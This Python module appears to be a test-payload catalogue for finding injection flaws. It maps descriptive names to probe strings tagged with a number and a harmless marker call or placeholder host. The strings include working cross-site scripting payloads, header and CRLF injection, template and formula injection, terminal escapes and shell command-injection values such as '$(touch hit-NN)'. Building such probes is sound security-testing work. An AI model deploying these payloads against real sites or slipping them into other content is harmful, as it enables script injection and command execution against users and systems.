"""Words that want to be markup, script, style, a header or a line of their own, wherever a text is printed.

`NN` stands for the number by which a word is known again. What runs calls `hit(NN)`; what becomes markup has `hit-NN`
in its name; what becomes a line begins with `X-HIT-NN`.
"""

from __future__ import annotations

import re
from collections.abc import Mapping

NUMBER = re.compile(r"(?:hit-|hit\(|hit\.example/)(\d+)", re.IGNORECASE)
"""By which a word is known again."""

SHAPES: Mapping[str, str] = {
    "a script": "<script>hit(NN)</script>",
    "a script behind an attribute": '"><script>hit(NN)</script>',
    "a picture behind an attribute": "'><img src=x onerror=hit(NN)>",
    "an attribute in double quotes": '" onmouseover="hit(NN)" onfocus="hit(NN)" autofocus tabindex="0" data-hit-NN="',
    "an attribute in single quotes": "' onfocus='hit(NN)' autofocus tabindex='0' data-hit-NN='",
    "an attribute without quotes": "x onfocus=hit(NN) autofocus tabindex=0 data-hit-NN=1 ",
    "the end of a title": "</title><svg onload=hit(NN)><hit-NN>",
    "the end of a style": "</style><svg/onload=hit(NN)><hit-NN>",
    "the end of a script": "</script><script>hit(NN)</script>",
    "the end of a field for words": "</textarea></template></noscript><hit-NN onclick=hit(NN)>",
    "the end of a comment": "--><hit-NN>x</hit-NN><!--",
    "an element": "<hit-NN data-hit-NN=1>x</hit-NN>",
    "character data": "]]><hit-NN/><![CDATA[",
    "a declaration": '<!DOCTYPE x [<!ENTITY hit-NN "x">]>&hit-NN;',
    "an instruction": '<?xml-stylesheet href="javascript:hit(NN)"?><?hit-NN?>',
    "named letters": "&lt;script&gt;hit(NN)&lt;/script&gt;&lt;hit-NN&gt;",
    "numbered letters": "&#60;img src=x onerror=hit(NN)&#62;&#x3c;hit-NN&#x3e;",
    "letters named twice": "&amp;lt;hit-NN&amp;gt;&amp;#60;script&amp;#62;hit(NN)",
    "an address that is a program": "javascript:hit(NN)",
    "such an address with entities": "JaVa&Tab;Script&colon;hit(NN)",
    "such an address with gaps": " java\tscript:hit(NN)",
    "such an address in Basic": "vbscript:hit(NN)",
    "an address that is a page": "data:text/html,<script>hit(NN)</script>",
    "a link in Markdown": "[x](javascript:hit(NN)) <javascript:hit(NN)> [y](<data:text/html,hit(NN)>)",
    "a picture in Markdown": '![x" onerror="hit(NN)](x" onerror="hit(NN))',
    "attributes in Markdown": "words {: onclick=hit(NN) #hit-NN .x style=background:red data-hit-NN=1}",
    "a template": "{{ hit(NN) }}{% set x = 1 %}{# hit-NN #}<hit-NN>",
    "a place to be filled": "{0.__class__.__mro__} {clinic.__class__} %s %(x)s hit(NN)",
    "the end of a text in double quotes": '";hit(NN);//\\";hit(NN);//',
    "the end of a text in single quotes": "';hit(NN);//\\';hit(NN);//",
    "the end of a text in backticks": "`;hit(NN);//${hit(NN)}",
    "letters of a script": "\\u003c/script>\\u003cscript>hit(NN)\\x3chit-NN>",
    "a style": "red;}*{background:url(//hit.example/NN)}/*hit-NN",
    "a style that runs": "expression(hit(NN));behavior:url(//hit.example/NN);-moz-binding:url(//hit.example/NN)",
    "a base": "<base href=//hit.example/NN/><link rel=stylesheet href=//hit.example/NN><hit-NN>",
    "a page that leads on": '<meta http-equiv=refresh content="0;url=//hit.example/NN"><hit-NN>',
    "a page in a page": '<iframe srcdoc="<script>hit(NN)</script>"></iframe><object data="data:text/html,<hit-NN>">',
    "a form": "<form action=javascript:hit(NN)><button formaction=javascript:hit(NN)>x</button></form><hit-NN>",
    "a link": '<a href="javascript:hit(NN)" ping=//hit.example/NN>x</a><hit-NN>',
    "a formula in a page": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=hit(NN)>'>"
    ),
    "a page without scripts": '<noscript><p title="</noscript><img src=x onerror=hit(NN)><hit-NN>">',
    "a drawing that moves": (
        "<svg><animate onbegin=hit(NN) attributeName=x dur=1s><set attributeName=href to=javascript:hit(NN)>"
    ),
    "a field that opens": "<details open ontoggle=hit(NN)><input autofocus onfocus=hit(NN)><hit-NN>",
    "a tag that is not closed": '<img src=x onerror="hit(NN)" data-hit-NN=',
    "an element of another language": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">hit(NN)</x:script><hit-NN>',
    "a page in seven bits": "+ADw-script+AD4-hit(NN)+ADw-/script+AD4-",
    "letters out of sight": "\u202e\u2066<hit-NN>\u200b<script\u00a0>hit(NN)</script>",
    "lines": "x\nX-HIT-NN: 1\r\nX-HIT-NN: 1\n\n<script>hit(NN)</script>",
    "lines as they were": "x\rX-HIT-NN: 1\r\r<hit-NN>",
    "lines of a word processor": "x\u2028X-HIT-NN: 1\u2029X-HIT-NN: 1\u0085X-HIT-NN: 1",
    "lines of a card": "x\nEND:VCARD\nBEGIN:VCARD\nX-HIT-NN:1\\nX-HIT-NN:1",
    "lines of redirects": "/x\nX-HIT-NN /* https://hit.example/NN 301",
    "lines in an address": "/x%0d%0aX-HIT-NN:1%0d%0a%0d%0a<hit-NN>",
    "letters of a terminal": "\x1b]0;hit-NN\x07\x1b[2Jx\x9b31m",
    "letters that XML has not": "\x0b\x0c\x0e\x08hit-NN\ufffe\uffff",
    "half a letter": "\ud800hit-NN\udfff",
    "a zero": "hit-NN\x00<hit-NN>",
    "a formula of a table": '=HYPERLINK("https://hit.example/NN")',
    "a command": "$(touch hit-NN)`touch hit-NN`;touch hit-NN|x&&--upload-pack=touch hit-NN",
    "an address with markup": 'https://x.example/"><script>hit(NN)</script><hit-NN>',
    "an address with attributes": "https://x.example/'onfocus='hit(NN)'autofocus='\"onfocus=\"hit(NN)\"autofocus=\"",
    "an address with an end of style": "https://x.example/');}</style></script><svg/onload=hit(NN)>",
    "an address with lines": "https://x.example/\nX-HIT-NN: 1",
    "a path with markup": '/x"><svg/onload=hit(NN)><hit-NN>',
    "a path for servers": '/x";}`$1{re.x}%{ENV:x}${x}<hit-NN>',
    "a letterbox with markup": '"onfocus="hit(NN)"<hit-NN>@x.example',
    "a host with markup": 'https://x"onfocus="hit(NN)"><hit-NN>',
}


def word(shape: str, number: int) -> str:
    """Return a shape with its number."""
    return SHAPES[shape].replace("NN", str(number))
